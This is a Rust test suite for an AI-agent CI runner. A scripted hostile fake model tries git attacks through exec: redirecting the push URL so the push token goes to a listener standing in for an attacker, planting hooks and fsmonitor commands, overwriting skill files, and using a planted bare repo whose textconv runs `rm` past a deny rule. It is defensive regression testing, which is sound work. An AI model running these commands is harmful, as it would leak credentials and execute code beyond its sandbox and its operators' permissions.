//! Attacks on the git step and on the repository, end to end: the real
//! binary, a scripted hostile model whose `exec` calls rewrite git's
//! configuration, plant hooks or write into skill folders, real
//! repositories, a real loopback listener standing in for an attacker's
//! server, and a real `git commit` run afterwards the way a workflow would.
//!
//! Each attack is tried as root and as an unprivileged user and judged by
//! its side effect: what the listener received, what the remote holds,
//! which marker files exist, what the files hold.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use git2::Repository;
use serde_json::json;

use super::git_output::init_repo;
use super::sandbox::enforced;
use super::support::fake_model::{FakeModel, Reply};
use super::support::harness::{Sandbox, events, stderr};
use super::support::job::JobRun;
use super::support::users::RunAs;

const TOKEN: &str = "tok-4f1c9e-pinned-push-secret";
const BRANCH: &str = "agentci/fix";

/// A loopback HTTP server that records every request it gets and answers
/// each with `401` asking for Basic credentials, as a git host would: a
/// client holding a token sends it on the next request.
struct Listener {
    port: u16,
    received: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Listener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                let mut request = Vec::new();
                let mut buf = [0u8; 4096];
                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => request.extend_from_slice(&buf[..n]),
                    }
                }
                log.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&request).into_owned());
                let _ = stream.write_all(
                    b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\n\
                      Content-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        });
        Listener { port, received }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/x.git", self.port)
    }

    fn received(&self) -> Vec<String> {
        self.received.lock().unwrap().clone()
    }

    /// Whether any request carried the token, in the clear or as Basic auth.
    fn got_the_token(&self) -> bool {
        let basic = data_encoding::BASE64.encode(format!("x-access-token:{TOKEN}").as_bytes());
        self.received()
            .iter()
            .any(|r| r.contains(TOKEN) || r.contains(&basic))
    }
}

/// A job in `sb` (workspace `ws`, skill outside it) whose model runs each
/// of `commands` with `exec`, one turn each, then writes NOTES.md.
fn job(sb: &Sandbox, base_url: &str, extra: &str) {
    sb.skill("fixer", None);
    sb.write(
        "job.yaml",
        &format!(
            r#"version: 1
name: attacks-git
skill: fixer
goal: Do what the model was scripted to do.
model: {{provider: openai, name: fake-model, base_url: {base_url}}}
tools: [read, write, exec]
workspace: ws
skills_path: [skills]
permissions: {{default: allow}}
{extra}"#
        ),
    );
}

fn script(commands: &[String]) -> Vec<Reply> {
    let mut script = vec![Reply::plan(&[("Try things", "they are tried")])];
    for command in commands {
        script.push(Reply::tool_call("exec", json!({ "command": command })));
    }
    script.push(Reply::tool_call(
        "write",
        json!({"path": "NOTES.md", "content": "notes\n"}),
    ));
    script.push(Reply::step_done("tried"));
    script.push(Reply::text("done"));
    script
}

fn run(sb: &Sandbox, user: RunAs) -> (Output, Vec<serde_json::Value>) {
    JobRun::new(sb)
        .junit()
        .progress("plain")
        .user(user)
        .env("GH_PUSH_TOKEN", TOKEN)
        .traced_if_any()
}

/// The exit codes of the run's `exec` calls, in order.
fn exec_exit_codes(trace: &[serde_json::Value]) -> Vec<i64> {
    events(trace, "tool.result")
        .into_iter()
        .filter(|e| e["tool"] == "exec")
        .map(|e| e["data"]["exit_code"].as_i64().unwrap_or(-1))
        .collect()
}

/// `git` as a workflow step runs it after the run (as root, unsandboxed;
/// `safe.directory` because the workspace may belong to `nobody`).
fn workflow_git(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(["-c", "safe.directory=*", "-c", "user.name=Workflow"])
        .args(["-c", "user.email=workflow@example.com"])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

/// A local bare repository for the pinned remote.
fn bare_remote(sb: &Sandbox) -> PathBuf {
    let dir = sb.path().join("remote.git");
    Repository::init_bare(&dir).unwrap();
    dir
}

fn branch_arrived(bare: &Path) -> bool {
    Repository::open_bare(bare)
        .unwrap()
        .find_reference(&format!("refs/heads/{BRANCH}"))
        .is_ok()
}

// ------------------------------------------------- the push token

/// Regression: a sandboxed `exec` rewrote where `origin` pushes
/// (`remote.origin.pushurl`, the remote's url in `.git/config`, or a
/// `pushInsteadOf` rule for a URL remote), and agentci's git step, which
/// read the remote only at push time, sent `Authorization: Basic
/// x-access-token:<token>` to the attacker's listener, even with the
/// network off. The push goes to the remote as seen before the run.
#[test]
fn the_push_token_goes_only_to_the_remote_seen_before_the_run() {
    for user in RunAs::each() {
        for sandbox in ["", "sandbox: off"] {
            for attack in ["pushurl", "url", "pushInsteadOf"] {
                let what = format!("{attack} as {} `{sandbox}`", user.label());
                let listener = Listener::start();
                let sb = Sandbox::new();
                let repo = init_repo(&sb.workspace(), &[("README.md", "# demo\n")]);
                let bare = bare_remote(&sb);
                let bare_url = format!("file://{}", bare.display());
                let (remote, command) = match attack {
                    "pushurl" => {
                        repo.remote("origin", bare.to_str().unwrap()).unwrap();
                        (
                            "origin".to_string(),
                            format!("git config remote.origin.pushurl {}", listener.url()),
                        )
                    }
                    "url" => {
                        repo.remote("origin", bare.to_str().unwrap()).unwrap();
                        (
                            "origin".to_string(),
                            format!("sed -i 's#url = .*#url = {}#' .git/config", listener.url()),
                        )
                    }
                    _ => (
                        bare_url.clone(),
                        format!("git config url.{}.pushInsteadOf {bare_url}", listener.url()),
                    ),
                };
                let model = FakeModel::start(script(&[command]));
                job(
                    &sb,
                    &model.base_url(),
                    &format!(
                        "{sandbox}\noutputs:\n  commit: {{branch: {BRANCH}}}\n  \
                         push: {{remote: \"{remote}\", token_env: GH_PUSH_TOKEN}}\n"
                    ),
                );
                let (out, trace) = run(&sb, user);
                assert!(
                    !listener.got_the_token(),
                    "{what}: the listener got the token: {:?}",
                    listener.received()
                );
                assert_eq!(
                    out.status.code(),
                    Some(0),
                    "{what}: stderr: {}",
                    stderr(&out)
                );
                assert_eq!(events(&trace, "git.push").len(), 1, "{what}");
                assert!(
                    branch_arrived(&bare),
                    "{what}: the branch is not on the remote"
                );
                assert!(listener.received().is_empty(), "{what}");
            }
        }
    }
}

/// The control for the test above: a remote that was an http URL before
/// the run gets the token, so the listener would have seen it.
#[test]
fn the_push_token_goes_to_the_https_remote_the_job_names() {
    for user in RunAs::each() {
        let listener = Listener::start();
        let sb = Sandbox::new();
        let repo = init_repo(&sb.workspace(), &[("README.md", "# demo\n")]);
        repo.remote("origin", &listener.url()).unwrap();
        let model = FakeModel::start(script(&[]));
        job(
            &sb,
            &model.base_url(),
            &format!(
                "outputs:\n  commit: {{branch: {BRANCH}}}\n  \
                 push: {{remote: origin, token_env: GH_PUSH_TOKEN}}\n"
            ),
        );
        let (out, _) = run(&sb, user);
        assert_eq!(out.status.code(), Some(1), "stderr: {}", stderr(&out));
        assert!(
            listener.got_the_token(),
            "as {}: {:?}",
            user.label(),
            listener.received()
        );
    }
}

// ------------------------------------------------- hooks and fsmonitor

/// Regression: `exec` wrote `.git/hooks/pre-commit` and set
/// `core.fsmonitor` (in the workspace's repository and in a nested one),
/// and the workflow's own unsandboxed `git commit` after the run ran them.
/// Every `.git` found at the start is read-only inside the sandbox, and
/// the folder holding a nested one cannot be moved aside.
#[test]
fn hooks_and_fsmonitor_cannot_be_planted_from_the_sandbox() {
    for user in RunAs::each() {
        let what = user.label();
        let sb = Sandbox::new();
        let ws = sb.workspace();
        init_repo(&ws, &[("README.md", "# demo\n"), (".gitignore", "/sub/\n")]);
        init_repo(&ws.join("sub"), &[("lib.txt", "nested\n")]);
        let marker = |name: &str| sb.path().join(format!("marker-{name}"));
        let plant = |dir: &str, tag: &str| {
            vec![
                format!(
                    "mkdir -p {dir}/.git/hooks && printf '#!/bin/sh\\ntouch {}\\n' > \
                     {dir}/.git/hooks/pre-commit && chmod +x {dir}/.git/hooks/pre-commit",
                    marker(&format!("hook-{tag}")).display()
                ),
                format!(
                    "git -C {dir} config core.fsmonitor 'touch {}'",
                    marker(&format!("fsmonitor-{tag}")).display()
                ),
            ]
        };
        let mut commands = plant(".", "root");
        commands.extend(plant("sub", "sub"));
        commands.push("mv sub sub-moved".to_string());
        // What workflows let the agent run keeps working: git that only reads.
        commands.push(
            "git status --short && git diff HEAD && git log --oneline -1 && \
             git show --stat HEAD && git blame README.md && git -C sub log --oneline -1"
                .to_string(),
        );
        let config_before = std::fs::read(ws.join(".git/config")).unwrap();
        let sub_config_before = std::fs::read(ws.join("sub/.git/config")).unwrap();
        let model = FakeModel::start(script(&commands));
        job(
            &sb,
            &model.base_url(),
            &format!("outputs:\n  commit: {{branch: {BRANCH}}}\n"),
        );
        let (out, trace) = run(&sb, user);
        assert_eq!(out.status.code(), Some(0), "{what}: {}", stderr(&out));
        // agentci's own commit (libgit2) runs nothing planted, sandbox or not.
        assert_eq!(events(&trace, "git.commit").len(), 1, "{what}");
        let markers = ["hook-root", "fsmonitor-root", "hook-sub", "fsmonitor-sub"];
        for name in markers {
            assert!(
                !marker(name).exists(),
                "{what}: {name} ran in agentci's commit"
            );
        }
        if !enforced(&trace, "run_folder") {
            continue;
        }
        let codes = exec_exit_codes(&trace);
        assert_eq!(codes.len(), 6, "{what}");
        assert!(codes[..5].iter().all(|c| *c != 0), "{what}: {codes:?}");
        assert_eq!(codes[5], 0, "{what}: read-only git failed");

        assert!(!ws.join(".git/hooks/pre-commit").exists(), "{what}");
        assert!(!ws.join("sub/.git/hooks/pre-commit").exists(), "{what}");
        assert!(!ws.join("sub-moved").exists(), "{what}");
        assert_eq!(
            std::fs::read(ws.join(".git/config")).unwrap(),
            config_before
        );
        assert_eq!(
            std::fs::read(ws.join("sub/.git/config")).unwrap(),
            sub_config_before
        );

        // Nor does the workflow's own git afterwards.
        std::fs::write(ws.join("README.md"), "# demo, by the workflow\n").unwrap();
        std::fs::write(ws.join("sub/lib.txt"), "nested, by the workflow\n").unwrap();
        for dir in [ws.clone(), ws.join("sub")] {
            let out = workflow_git(&dir, &["commit", "-am", "workflow commit"]);
            assert!(out.status.success(), "{what}: {}", stderr(&out));
        }
        for name in markers {
            assert!(
                !marker(name).exists(),
                "{what}: {name} ran in the workflow's commit"
            );
        }
    }
}

/// Regression: with `core.hooksPath` naming a folder in the workspace (as
/// husky sets it), `exec` rewrote the hook there, or moved the folder aside
/// and made a new one, and the workflow's own `git commit` ran it.
#[test]
fn hooks_in_the_hooks_path_cannot_be_rewritten_from_the_sandbox() {
    use std::os::unix::fs::PermissionsExt;
    for user in RunAs::each() {
        let what = user.label();
        let sb = Sandbox::new();
        let ws = sb.workspace();
        let hook = "#!/bin/sh\nexit 0\n";
        let repo = init_repo(
            &ws,
            &[("README.md", "# demo\n"), (".husky/pre-commit", hook)],
        );
        std::fs::set_permissions(
            ws.join(".husky/pre-commit"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        repo.config()
            .unwrap()
            .set_str("core.hooksPath", ".husky")
            .unwrap();
        let marker = sb.path().join("marker-husky");
        let evil = format!("printf '#!/bin/sh\\ntouch {}\\n'", marker.display());
        let model = FakeModel::start(script(&[
            format!("{evil} > .husky/pre-commit"),
            format!(
                "mv .husky .husky-old && mkdir .husky && {evil} > .husky/pre-commit && \
                 chmod +x .husky/pre-commit"
            ),
        ]));
        job(&sb, &model.base_url(), "allow_dirty: true\n");
        let (out, trace) = run(&sb, user);
        assert_eq!(out.status.code(), Some(0), "{what}: {}", stderr(&out));
        if !enforced(&trace, "run_folder") {
            continue;
        }
        let codes = exec_exit_codes(&trace);
        assert!(codes.iter().all(|c| *c != 0), "{what}: {codes:?}");
        assert_eq!(sb.read("ws/.husky/pre-commit"), hook, "{what}");
        assert!(!ws.join(".husky-old").exists(), "{what}");

        std::fs::write(ws.join("README.md"), "# demo, by the workflow\n").unwrap();
        let out = workflow_git(&ws, &["commit", "-am", "workflow commit"]);
        assert!(out.status.success(), "{what}: {}", stderr(&out));
        assert!(!marker.exists(), "{what}: the planted hook ran");
    }
}

// ------------------------------------------------- skill folders

/// Regression: skill folders inside the workspace were read-only for
/// agentci's tools but `exec` could write them.
#[test]
fn exec_cannot_write_skill_folders_inside_the_workspace() {
    for user in RunAs::each() {
        let what = user.label();
        let model = FakeModel::start(script(&[
            "echo pwned >> .agents/skills/fixer/SKILL.md".to_string(),
            "echo pwned > .agents/skills/fixer/run.sh".to_string(),
            "echo pwned >> skills/helper/SKILL.md".to_string(),
            "echo pwned >> .claude/skills/other/SKILL.md".to_string(),
            "mv .agents/skills/fixer .agents/skills/moved".to_string(),
        ]));
        let sb = Sandbox::new();
        let skill = |dir: &str, name: &str| {
            let text =
                format!("---\nname: {name}\ndescription: A skill in the workspace.\n---\nDo it.\n");
            sb.write(&format!("ws/{dir}/{name}/SKILL.md"), &text);
            text
        };
        let texts = [
            (
                ".agents/skills/fixer/SKILL.md",
                skill(".agents/skills", "fixer"),
            ),
            ("skills/helper/SKILL.md", skill("skills", "helper")),
            (
                ".claude/skills/other/SKILL.md",
                skill(".claude/skills", "other"),
            ),
        ];
        sb.write(
            "job.yaml",
            &format!(
                "version: 1\nname: skills\nskill: fixer\ngoal: g\n\
                 model: {{provider: openai, name: fake-model, base_url: {}}}\n\
                 tools: [read, write, exec]\nworkspace: ws\npermissions: {{default: allow}}\n",
                model.base_url()
            ),
        );
        let (out, trace) = run(&sb, user);
        assert_eq!(out.status.code(), Some(0), "{what}: {}", stderr(&out));
        if !enforced(&trace, "run_folder") {
            continue;
        }
        let codes = exec_exit_codes(&trace);
        assert_eq!(codes.len(), 5, "{what}");
        assert!(codes.iter().all(|c| *c != 0), "{what}: {codes:?}");
        for (path, text) in &texts {
            assert_eq!(&sb.read(&format!("ws/{path}")), text, "{what}: {path}");
        }
        assert!(!sb.workspace().join(".agents/skills/fixer/run.sh").exists());
        assert!(!sb.workspace().join(".agents/skills/moved").exists());
        // The workspace itself stays writable.
        assert_eq!(sb.read("ws/NOTES.md"), "notes\n", "{what}");
    }
}

// ------------------------------------------------- a repository made during the run

/// Regression: with the workspace a folder inside the repository, `exec`
/// ran `git init` there, and the git step, which looked for the
/// repository again after the run, committed into the new one (history the
/// agent wrote) and pushed that with the token. The repository is the one
/// found before the run; another one stops the step.
#[test]
fn a_repository_made_during_the_run_gets_no_commit_and_no_push() {
    for user in RunAs::each() {
        let what = user.label();
        let sb = Sandbox::new();
        let repo = init_repo(
            &sb.workspace(),
            &[("README.md", "# demo\n"), ("app/main.txt", "app\n")],
        );
        let bare = bare_remote(&sb);
        repo.remote("origin", bare.to_str().unwrap()).unwrap();
        let model = FakeModel::start(script(&[
            "git init -q . && git -c user.name=a -c user.email=a@example.com commit -q \
             --allow-empty -m 'history the agent wrote'"
                .to_string(),
        ]));
        job(
            &sb,
            &model.base_url(),
            &format!(
                "outputs:\n  commit: {{branch: {BRANCH}}}\n  \
                 push: {{remote: origin, token_env: GH_PUSH_TOKEN}}\n"
            ),
        );
        let job_file = sb
            .read("job.yaml")
            .replace("workspace: ws\n", "workspace: ws/app\n");
        sb.write("job.yaml", &job_file);
        let (out, trace) = run(&sb, user);
        assert_eq!(out.status.code(), Some(1), "{what}: {}", stderr(&out));
        let reason = trace.last().unwrap()["reason"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(
            reason.contains("not the one it was in before the run"),
            "{what}: {reason}"
        );
        assert!(events(&trace, "git.commit").is_empty(), "{what}");
        assert!(!branch_arrived(&bare), "{what}: the branch was pushed");
    }
}

// ------------------------------------------------- a repository planted by the tools

/// Regression: the file tools refuse `.git`, but not a folder laid out as
/// a bare repository (`HEAD`, `config`, `objects/`, `refs/`). Git finds
/// one when run inside it, so under `exec(git log*)` a `git log -p` with
/// `cwd` there ran the `textconv` command the model wrote in its config:
/// `rm`, past the deny rule `exec(rm *)`.
#[test]
fn a_bare_repository_planted_by_the_tools_runs_nothing() {
    for user in RunAs::each() {
        let what = user.label();
        let sb = Sandbox::new();
        let ws = sb.workspace();
        let repo = init_repo(&ws, &[("README.md", "# demo\n"), ("victim.txt", "keep\n")]);
        let head = repo.head().unwrap().peel_to_commit().unwrap().id();
        let victim = ws.join("victim.txt");
        let config = format!(
            "[core]\n\tbare = true\n[diff \"x\"]\n\ttextconv = \"rm -f {}; cat\"\n",
            victim.display()
        );
        let planted = [
            ("evil/HEAD", "ref: refs/heads/main\n".to_string()),
            ("evil/refs/heads/main", format!("{head}\n")),
            (
                "evil/objects/info/alternates",
                "../../.git/objects\n".to_string(),
            ),
            ("evil/info/attributes", "* diff=x\n".to_string()),
            ("evil/config", config),
        ];
        let writes = planted
            .iter()
            .enumerate()
            .map(|(i, (path, content))| {
                (format!("w{i}"), json!({ "path": path, "content": content }))
            })
            .collect::<Vec<_>>();
        let mut calls: Vec<(&str, &str, serde_json::Value)> = writes
            .iter()
            .map(|(id, args)| (id.as_str(), "write", args.clone()))
            .collect();
        calls.push((
            "log",
            "exec",
            json!({ "command": "git log -p", "cwd": "evil" }),
        ));
        let model = FakeModel::start(vec![
            Reply::plan(&[("Try things", "they are tried")]),
            Reply::tool_calls(calls),
            Reply::step_done("tried"),
            Reply::text("done"),
        ]);
        job(&sb, &model.base_url(), "");
        let job_file = sb.read("job.yaml").replace(
            "permissions: {default: allow}",
            "permissions: {default: deny, allow: [read, write, \"exec(git log*)\"], \
             deny: [\"exec(rm *)\"]}",
        );
        sb.write("job.yaml", &job_file);
        let (out, trace) = run(&sb, user);
        assert_eq!(out.status.code(), Some(0), "{what}: {}", stderr(&out));
        assert!(ws.join("evil/config").exists(), "{what}: the plant failed");
        assert!(victim.exists(), "{what}: the planted textconv ran `rm`");
        assert_eq!(exec_exit_codes(&trace).len(), 1, "{what}");
        // The workspace's own repository still works for git under the rule.
        let log = workflow_git(&ws, &["log", "--oneline", "-1"]);
        assert!(log.status.success(), "{what}: {}", stderr(&log));
    }
}
